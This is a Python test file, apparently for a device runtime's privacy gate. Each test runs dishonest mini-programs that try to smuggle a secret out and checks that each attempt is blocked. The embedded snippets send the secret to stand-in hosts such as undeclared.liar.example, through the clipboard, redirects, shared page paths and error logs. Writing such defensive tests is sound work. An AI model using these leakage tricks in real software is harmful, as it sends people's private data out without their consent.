"""Tricks that take more than one program and one run."""

import asyncio
import json
from collections.abc import AsyncIterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from device_runtime.capability.files import ProgramFiles
from device_runtime.capability.recording import Recorder
from device_runtime.capability.registry import Caller, CapabilityError
from device_runtime.errors import CygnetError
from device_runtime.host import privacy as host_privacy
from device_runtime.host.privacy import DevicePrivacy
from device_runtime.host.privacy_settings import PrivacySettings
from device_runtime.privacy.consents import Consents
from device_runtime.privacy.file import PrivacyFile
from device_runtime.privacy.ledger import Ledger
from device_runtime.privacy.telling import SENT, LedgerTelling
from device_runtime.sync.share_messages import Share
from device_runtime.values import Value
from tests.build.python_programs import build, write_program
from tests.privacy.dishonest.cases import items
from tests.privacy.dishonest.house import ROUTE, SECRET, House, liar, manifest_of
from tests.privacy.dishonest.looking import secrets_in, shown
from tests.privacy.room import item
from tests.sync.waiting import until

pytestmark = pytest.mark.asyncio(loop_scope="module")

NOTE = "wx.reportEvent('note', { text: %s });"


def own(house: House, app: str) -> list[Any]:
    return [record for record in house.records() if record.source == app]


async def test_who_reads_the_clipboard_has_heard_what_its_writer_heard(house: House) -> None:
    origin = house.wire.origin
    writes, reads = "org.liar.writer", "org.liar.reader"
    house.add(liar(writes, origin, items(origin, "memo"), "await call('setClipboardData', { data: secret });"))
    send = "const { data } = await call('getClipboardData', {}); await request('/v1/words?q=' + data);"
    house.add(liar(reads, origin, items(origin, "words"), send, hears=False))
    await house.run(writes)
    (failed,) = await house.run(reads)
    assert "has seen voice" in failed
    assert house.room.labels.of(reads) == {"voice"}
    assert bytes(house.wire.heard) == b""


async def test_a_clipboard_of_who_has_heard_nothing_labels_nobody(house: House) -> None:
    origin = house.wire.origin
    body = "await call('setClipboardData', { data: 'x' }); const { data } = await call('getClipboardData', {});"
    app = house.add(liar("org.honest", origin, items(origin, "note"), f"{body}\n{NOTE % 'data'}", hears=False))
    assert await house.run(app) == []
    assert (house.room.labels.of(app), len(own(house, app))) == (frozenset(), 1)


async def test_a_yes_to_one_program_is_none_to_another(house: House) -> None:
    origin = house.wire.origin
    house.room.person.answer = None
    body = "await post('/v1/ask', { kind: 'news' });"
    house.add(liar("org.liar.trusted", origin, items(origin, "ask"), body, hears=False))
    app = house.add(liar("org.liar.other", origin, items(origin, "ask"), body, hears=False), agreed=False)
    (failed,) = await house.run(app)
    assert "nobody has agreed yet to the item ask" in failed
    assert bytes(house.wire.heard) == b""


async def test_an_update_that_widens_an_item_has_nobodys_yes(house: House) -> None:
    origin = house.wire.origin
    house.room.person.answer = None
    app = house.add(liar("org.liar.wider", origin, items(origin, "memo", "note"), NOTE % "secret"))
    await house.run(app)
    wider = [*items(origin, "memo"), item("note", fields={"text": "text"}, derived_from=["voice"])]
    house.store.add(liar(app, origin, wider, NOTE % "secret"))
    await house.run(app)
    assert own(house, app) == []
    assert ("refused", "note") in house.room.acts()


async def test_what_is_sent_after_a_no_stays_here(house: House) -> None:
    origin = house.wire.origin
    plan = items(origin, "memo", "talk")
    body = """
      const s = wx.connectSocket({ url: SOCKET + '/talk' }); await new Promise((r) => s.onOpen(r));
      const send = (data) => new Promise((ok, no) => s.send({ data, success: ok, fail: no }));
      const say = (word) => attempt(() => send(`{"word": "${word}"}`));
      await say('news'); console.log('said'); await new Promise((r) => s.onMessage(r)); await say('weather');"""
    app = house.add(liar("org.liar.no", origin, plan, body))
    session = await house.desk.session(app)
    await house.heard.line(session, "said")
    talk = [each for each in session.manifest.data_plan.items if each.name == "talk"]
    await until(lambda: b"news" in house.wire.heard)
    house.room.consents.decide(app, talk, granted=False, who="owner")
    await house.wire.say("go on")
    await house.heard.line(session, "done")
    (failed,) = [line for line in house.heard.lines(session) if line.startswith("failed")]
    await house.desk.stop_program(app)
    assert "said no to the item talk" in failed
    assert b"weather" not in house.wire.heard


async def test_a_redirect_leads_nowhere_that_the_plan_does_not(house: House) -> None:
    origin = house.wire.origin
    house.wire.redirect = "https://other.example/v1/ask"
    app = house.add(
        liar("org.liar.redirected", origin, items(origin, "memo", "ask"), "await post('/v1/ask', { kind: 'news' });")
    )
    (failed,) = await house.run(app)
    assert "does not declare https://other.example" in failed
    house.wire.redirect = "/v1/quiet"
    (failed,) = await house.run(app)
    assert "at the path '/v1/quiet'" in failed
    assert house.wire.asked[-2:] == ["/v1/ask", "/v1/ask"]


async def test_a_form_that_is_redirected_is_held_against_the_plan_at_each_hop(house: House) -> None:
    origin = house.wire.origin
    body = """
      const path = wx.env.USER_DATA_PATH + '/a'; wx.getFileSystemManager().writeFileSync(path, 'x');
      await attempt(() => call('uploadFile', { url: ORIGIN + '/v1/form', filePath: path, name: 'file' }));"""
    app = house.add(liar("org.honest.form", origin, items(origin, "form"), body, hears=False))
    house.wire.redirect = "/v1/form"
    (failed,) = await house.run(app)
    assert "more than 5 redirects" in failed
    (sent,) = [entry for entry in house.room.written() if (entry.app, entry.act) == (app, "send")]
    assert sent.count == 6


async def test_a_host_that_is_not_permitted_is_not_looked_up(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    looked_up: list[object] = []

    async def look_up(host: object, *_: object, **__: object) -> list[object]:
        looked_up.append(host)
        raise OSError("nobody knows it")

    monkeypatch.setattr(asyncio.get_running_loop(), "getaddrinfo", look_up)
    for name in ("undeclared.liar.example", "declared.liar.example"):
        app = f"org.liar.{name}"
        body = f"await request('https://{name}/' + secret);"
        made = liar(app, house.wire.origin, items(house.wire.origin, "memo"), body)
        network = {"request": ["https://declared.liar.example"], "socket": []}
        manifest = manifest_of(app, house.wire.origin, items("https://x.example", "memo"), network=network)
        house.add(type(made)(manifest, made.entries))
        assert await house.run(app)
    assert looked_up == []


async def test_a_picture_on_a_page_is_fetched_by_the_gate(house: House) -> None:
    origin = house.wire.origin
    app = house.add(liar("org.liar.picture", origin, items(origin, "memo", "words"), ""))
    await house.run(app)
    caller = Caller(app, house.store.package(app).manifest)
    with pytest.raises(CapabilityError, match="has seen voice"):
        await house.media.read(caller, f"{origin}/v1/words?q={SECRET}")
    assert bytes(house.wire.heard) == b""


@pytest.mark.parametrize(
    ("path", "title", "sentence"),
    [
        (f"{SECRET}?tab=news", "", "must begin with a page"),
        (f"{ROUTE}/{SECRET}", "", "must begin with a page"),
        (f"{ROUTE}?tab={SECRET}", "", "tab must be one of news, weather"),
        (f"{ROUTE}?heard={SECRET}", "", "holds 'heard'"),
        (f"{ROUTE}?tab=news&&", "", "holds 'query'"),
        (f"{ROUTE}?tab=n%65ws&&", "", "holds 'query'"),
        (f"{ROUTE}?tab=news", SECRET, "holds 'title'"),
    ],
)
async def test_a_shared_page_says_nothing_that_its_item_does_not(
    house: House, path: str, title: str, sentence: str
) -> None:
    origin = house.wire.origin
    app = house.add(liar("org.liar.sharer", origin, items(origin, "memo", "page"), ""))
    caller = Caller(app, house.store.package(app).manifest)
    with pytest.raises(CapabilityError) as caught:
        await house.capabilities.invoke(caller, "share.page", {"path": path, "title": title})
    assert sentence in str(caught.value)
    assert house.shares() == []


async def test_a_page_that_may_tell_of_something_labels_the_program_over_there(house: House) -> None:
    origin = house.wire.origin
    page = item("page", destination="other-device", derived_from=["voice"], fields={"q": "text"})
    body = "await new Promise((r) => setTimeout(r, 0)); wx.reportEvent('note', { text: 'x' });"
    app = house.add(liar("org.liar.there", origin, [page, *items(origin, "note")], body, hears=False))
    await house.shared._ask_and_open(Share("1", "hall", app, f"{ROUTE}?q={SECRET}", "Liar"))
    assert house.room.labels.of(app) == {"voice"}
    session = house.desk.running(app)
    assert session is not None
    await house.heard.line(session, "done")
    await house.desk.stop_program(app)
    with pytest.raises(CygnetError, match="holds 'other'"):  # under no item of the plan here: it is not opened
        await house.shared._ask_and_open(Share("2", "hall", app, f"{ROUTE}?other={SECRET}", "Liar"))
    assert house.desk.running(app) is None


async def test_a_program_that_fails_at_its_start_keeps_its_words_here(house: House) -> None:
    origin = house.wire.origin
    app = house.add(liar("org.liar.start", origin, items(origin, "memo"), "wx.setStorageSync('heard', secret);"))
    await house.run(app)
    failing = liar(app, origin, items(origin, "memo"), "")
    entries = {**failing.entries, "app.js": b"throw new Error(wx.getStorageSync('heard'))"}
    house.store.add(type(failing)(failing.manifest, entries))
    told = ""
    try:
        await house.desk.session(app)
    except CygnetError as error:
        told = str(getattr(error, "told", error))
    await until(lambda: any(SECRET in text for _, text, _ in house.heard.logs.get(app, [])) or told)
    await house.desk.stop_program(app)
    records = house.records()
    assert secrets_in(f"{told} {records}".encode()) == []
    assert "operator" in shown(house, app, [], records) or told


async def test_the_label_of_a_model_is_something_heard(house: House) -> None:
    origin = house.wire.origin
    plan = [item("memo", category="speech", destination="device", fields={}, retention_days=0), *items(origin, "note")]
    body = """
      const session = wx.createInferenceSession({ ability: 'sound-events' });
      const heard = new Promise((r) => session.onResult(r)); session.listen();
      wx.reportEvent('note', { text: (await heard).label });"""
    app = house.add(liar("org.liar.model", origin, plan, body, hears=False))
    session = await house.desk.session(app)
    await until(lambda: house.ears.listeners)
    house.ears.say(20_000)
    await house.heard.line(session, "done")
    await house.desk.stop_program(app)
    assert own(house, app) == []
    assert house.room.labels.of(app) == {"speech"}


async def test_a_clock_that_is_put_back_gives_no_new_bits(house: House) -> None:
    origin = house.wire.origin
    body = "for (let i = 0; i < 150; i++) wx.reportEvent('clicks', { button: 'a' });"
    app = house.add(liar("org.liar.clock", origin, items(origin, "memo", "clicks"), body))
    now, counts = house.room.now, []
    for days in (0, 1, 0, -400, 1):
        house.room.now = now + 86_400 * days
        await house.run(app)
        counts.append(len(own(house, app)))
    house.room.now = now
    first = counts[0]
    assert first > 0
    assert counts == [first, first, 0, 0, 0]


async def test_how_often_it_sends_elsewhere_is_told_in_powers_of_two_that_count(house: House) -> None:
    origin, told = house.wire.origin, list[Mapping[str, Value]]()
    body = "for (let i = 0; i < 11; i++) await request('/v1/ask/news');"
    app = house.add(liar("org.liar.sums", origin, items(origin, "memo", "ask"), body))
    assert await house.run(app) == []
    house.room.ledger.flush()
    spent = house.room.labels.spent(app)

    def record(_source: str, name: str, values: Mapping[str, Value]) -> None:
        if name == SENT and values["app_id"] == app:
            told.append(values)

    LedgerTelling(house.room.gate, record).tell()
    (sum_of_day,) = told
    assert (sum_of_day["count"], sum_of_day["rounded"]) == (8, True)
    assert house.room.labels.spent(app) >= spent + 17


async def test_a_program_in_python_meets_the_same_gate(house: House, tmp_path: Path) -> None:
    app, origin = "org.liar.python", house.wire.origin
    calls = [
        f"call('telemetry', name='note', values={{'text': '{SECRET}'}})",
        f"call('telemetry', name='{SECRET}', values={{}})",
        f"call('request', url='{origin}/v1/words?q={SECRET}')",
        f"call('request', url='{origin}/v1/ask/{SECRET}')",
    ]
    attempt = (
        "        try:\n            {}\n        except CapabilityError as error:\n            log('failed', error)\n"
    )
    tries = "".join(attempt.format(each) for each in calls)
    head = "from cygnet import CapabilityError, Page, call, log\n\n\nclass Index(Page):\n    data = {}\n\n"
    page = f"{head}    def on_load(self, query):\n{tries}        log('done')\n"
    config = {
        "app_id": app, "language": "python", "network": {"request": [origin]},
        "permissions": [{"name": "request", "reason": "test"}],
        "data_plan": items(origin, "memo", "note", "words", "ask"),
    }  # fmt: skip
    texts = {f"{ROUTE}.py": page, "cygnet.json": json.dumps(config)}
    package: Any = build(write_program(tmp_path, texts)).package
    house.add(package)
    house.room.labels.mark(app, "voice")
    failed = await house.run(app)
    assert len(failed) == len(calls), failed
    assert (own(house, app), bytes(house.wire.heard)) == ([], b"")


# -- a no while something is heard ----------------------------------------------------------------------------------


class Microphone:
    """Gives sound until it is let go."""

    def __init__(self) -> None:
        self.given, self.on = 0, False

    async def listen(self) -> AsyncIterator[bytes]:
        self.on = True
        try:
            while True:
                self.given += 1
                yield SECRET.encode()
                await asyncio.sleep(0.001)
        finally:
            self.on = False


async def test_a_no_ends_a_recording_though_the_program_is_slow(tmp_path: Path) -> None:
    """The no is said by another process, as by the owner's command, and the program takes nothing that it is told."""
    privacy = DevicePrivacy(tmp_path, PrivacySettings(), lambda *_: None)
    privacy.start()
    manifest = manifest_of("org.liar.slow", "http://127.0.0.1:1", items("http://127.0.0.1:1", "memo"))
    plan, microphone, shown_on = manifest.data_plan, Microphone(), list[bool]()
    never = asyncio.Event()

    async def emit(name: str, payload: Value) -> None:
        await never.wait()

    caller = Caller(manifest.app_id, manifest, emit=emit)
    files = ProgramFiles(tmp_path / "files")
    recorder = Recorder(microphone.listen, files, privacy.gate, lambda _app, *, on: shown_on.append(on))
    elsewhere = PrivacyFile(tmp_path)
    owner = Consents(elsewhere, Ledger(elsewhere))
    owner.decide(caller.app_id, plan.items, granted=True, who="owner")
    await until(lambda: privacy.consents.decisions(caller.app_id))
    await recorder.start(caller, {"task": "1", "format": "PCM"})
    await until(lambda: microphone.given > 3)
    owner.decide(caller.app_id, plan.items, granted=False, who="owner")
    await until(lambda: not microphone.on)
    assert recorder._running is not None
    assert recorder._running.pcm == b""
    assert host_privacy._LOOK_SECONDS < 1
    never.set()
    await until(lambda: shown_on == [True, False])
    elsewhere.close()
    privacy.close()
    files.close()


async def test_a_no_between_the_question_and_the_recording_counts(house: House) -> None:
    origin = house.wire.origin
    manifest = manifest_of("org.liar.between", origin, items(origin, "memo"))
    plan, microphone, told, shown_on = manifest.data_plan, Microphone(), list[Any](), list[bool]()

    async def emit(_name: str, payload: Value) -> None:
        told.append(payload)

    caller = Caller(manifest.app_id, manifest, emit=emit)
    house.room.consents.decide(caller.app_id, plan.items, granted=True, who="owner")
    recorder = Recorder(microphone.listen, house.files, house.room.gate, lambda _app, *, on: shown_on.append(on))
    await recorder.start(caller, {"task": "1", "format": "PCM"})
    house.room.consents.decide(caller.app_id, plan.items, granted=False, who="owner")  # before its task has begun
    await until(lambda: told and told[-1]["event"] == "error")
    assert "no longer agrees" in str(told[-1])
    assert microphone.given <= 1


async def test_a_no_ends_the_listening_of_a_model(house: House) -> None:
    origin = house.wire.origin
    plan = [item("memo", category="speech", destination="device", fields={}, retention_days=0)]
    body = """
      const session = wx.createInferenceSession({ ability: 'sound-events' });
      const ended = new Promise((r) => session.onError(r)); session.listen(); failed(await ended);"""
    app = house.add(liar("org.liar.ears", origin, plan, body, hears=False))
    session = await house.desk.session(app)
    await until(lambda: house.ears.listeners)
    house.room.consents.decide(app, session.manifest.data_plan.items, granted=False, who="owner")
    await until(lambda: not house.ears.listeners)
    await house.heard.line(session, "failed")
    await house.desk.stop_program(app)
    assert "no longer agrees" in house.heard.lines(session)[0]
